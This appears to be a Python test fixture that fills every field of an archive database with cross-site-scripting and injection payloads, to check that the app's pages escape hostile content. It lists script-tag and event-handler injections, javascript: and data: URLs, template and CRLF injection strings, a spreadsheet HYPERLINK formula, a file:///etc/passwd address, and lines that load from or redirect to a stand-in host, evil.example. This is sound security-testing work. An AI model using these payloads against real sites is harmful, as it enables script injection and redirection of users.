"""An archive of hostile texts: every field that comes from outside holds what would be run if a page let it."""

from __future__ import annotations

import hashlib
import html
from contextlib import closing
from pathlib import Path
from typing import Any

from archive.packed import pack
from archive.schema import TABLES, open_archive
from archive.search.index import remake
from archive.store import insert

# Each would set window.pwned, or leave an element marked « data-pwned », or ask an outside host.
TEXTS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1 data-pwned>",
    "<svg onload=window.pwned=1 data-pwned>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s data-pwned>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1 data-pwned>",
    "<body onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>' data-pwned></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>' data-pwned></object>",
    "<a href=javascript:window.pwned=1 data-pwned>x</a>",
    "<details open ontoggle=window.pwned=1 data-pwned>",
    "<input autofocus onfocus=window.pwned=1 data-pwned>",
    "<video><source onerror=window.pwned=1 data-pwned></video>",
    "<link rel=stylesheet href=//evil.example/x.css data-pwned>",
    "<meta http-equiv=refresh content='0;url=//evil.example/' data-pwned>",
    "<base href=//evil.example/ data-pwned>",
    "<form action=//evil.example/><button data-pwned>x</button></form>",
    "<style>@import url(//evil.example/x.css); body{display:none}</style>",
    "<div style='background:url(//evil.example/x.png)' data-pwned>",
    '" onmouseover="window.pwned=1" data-pwned="',
    "' onmouseover='window.pwned=1' data-pwned='",
    "\" autofocus onfocus=window.pwned=1 data-pwned x=\"",
    "` onerror=window.pwned=1 data-pwned",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script><![CDATA[",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7} %(n)s %s {0}",
    "\u2028window.pwned=1\u2029//",
    "\u202ecod.exe \u200f\u200b\ufeff",
    "<\u0000script>window.pwned=1</script>",
    "＜script＞window.pwned=1＜/script＞",
    "=HYPERLINK(\"http://evil.example\";\"x\")",
    "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
    "<<script>script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
)  # fmt: skip
ADDRESSES = (
    "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1",
    " javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example/x", 'https://evil.example/"><script>window.pwned=1</script>',
    "https://evil.example/' onclick='window.pwned=1",
)  # fmt: skip
AT = "2026-01-02T03:04:05Z"


def make(folder: Path) -> Path:
    """Writes the archive and returns its folder; statement `h-N` is built of the Nth text."""
    folder.mkdir(parents=True, exist_ok=True)
    with closing(open_archive(folder / "archive.db")) as db:
        for table, rows in _tables().items():
            insert(db, table, [{name: row.get(name) for name in TABLES[table]} for row in rows])
        remake(db)
        db.commit()
    return folder


def _tables() -> dict[str, list[dict[str, Any]]]:
    told: dict[str, list[dict[str, Any]]] = {table: [] for table in TABLES}
    for number, text in enumerate(TEXTS):
        other, address = TEXTS[(number + 1) % len(TEXTS)], ADDRESSES[number % len(ADDRESSES)]
        _organisation(told, number, text, address)
        _statement(told, number, text, other, address)
    return told


def _organisation(told: dict[str, list[dict[str, Any]]], n: int, text: str, address: str) -> None:
    parent = f"o-{n - 1}" if n else None
    told["organisations"].append(
        {"id": f"o-{n}", "name": f"{text} {n}", "acronym": text, "kind": text, "parent_id": parent, "website": address}
    )
    told["aliases"].append({"organisation_id": f"o-{n}", "alias": text, "source": text})
    renaming = {"organisation_id": f"o-{n}", "name": text, "former_id": parent, "at": text, "how": text}
    told["renamings"].append(renaming)
    told["sites"].append({
        "id": f"s-{n}", "organisation_id": f"o-{n}", "home": address, "family": text, "state": text,
        "last_success": AT, "statements": 1, "message": text,
    })  # fmt: skip
    told["runs"].append(
        {"id": f"r-{n}", "started": AT, "finished": AT, "site_id": f"s-{n}", "state": "ok", "requests": 1, "bytes": 1,
         "new": 1, "changed": 0, "vanished": 0, "message": text}
    )  # fmt: skip


def _statement(told: dict[str, list[dict[str, Any]]], n: int, text: str, other: str, address: str) -> None:
    identifier = f"h-{n}"
    digest = hashlib.sha256(text.encode()).hexdigest()
    told["captures"].append({
        "id": f"c-{n}", "site_id": f"s-{n}", "url": address, "fetched_at": AT, "status": 200, "media_type": text,
        "sha256": digest, "warc": text, "offset": 7,
    })  # fmt: skip
    work = f"w-{n // 2}"
    if n % 2 == 0:
        told["works"].append({"id": work, "title": text, "published": "2024-03-18", "statements": 2,
                              "first_statement_id": identifier})  # fmt: skip
    body = f"{text}\n\npont {other}"
    told["statements"].append({
        "id": identifier, "site_id": f"s-{n}", "url": address, "title": text, "surtitle": text, "subtitle": other,
        "standfirst": text, "published": "2024-03-18", "modified": AT, "kind": text if n % 3 == 0 else "appel",
        "language": text if n % 5 == 0 else "fr", "author": other, "section": text, "keywords": text,
        "signature_count": 2, "people_count": 1, "held_count": 1, "unnamed_count": 1, "work_id": work,
        "state": "vanished" if n % 7 == 0 else "online", "first_seen": AT, "last_seen": AT, "capture_id": f"c-{n}",
        "text": body,
        # As if what cleans captures had failed: the page has to clean again.
        "html": pack(f"<p>{text}</p><p>pont {html.escape(other)}</p><p><a href='{address}'>{text}</a></p>", body),
    })  # fmt: skip
    for place, organisation in enumerate((f"o-{n}", f"o-{(n + 1) % len(TEXTS)}", None)):
        told["signatures"].append({
            "id": f"{identifier}-{place}", "statement_id": identifier, "position": place, "as_written": text,
            "name": other, "acronym": text, "organisation_id": organisation, "kind": "branch", "section": text,
            "support": 1, "match": text, "evidence": text, "confidence": "low",
            "state": "no_longer_listed" if organisation is None else "listed", "first_seen": AT, "last_seen": AT,
        })  # fmt: skip
    told["documents"].append({
        "id": f"{identifier}-d", "statement_id": identifier, "url": address, "title": text, "media_type": text,
        "sha256": digest, "text": text, "capture_id": f"c-{n}",
    })  # fmt: skip
    for version in (1, 2):
        told["revisions"].append({
            "id": f"{identifier}-r{version}", "statement_id": identifier, "seen_at": f"2026-01-0{version}T00:00:00Z",
            "cause": text, "title": text if version == 1 else other, "text": body if version == 1 else f"{body} {text}",
            "capture_id": f"c-{n}",
        })  # fmt: skip
    for place, what in enumerate(("signature_added", text)):
        told["changes"].append({
            "id": f"{identifier}-x{place}", "at": AT, "statement_id": identifier, "organisation_id": None, "what": what,
            "cause": text, "detail": f"{text} → {other}",
        })  # fmt: skip
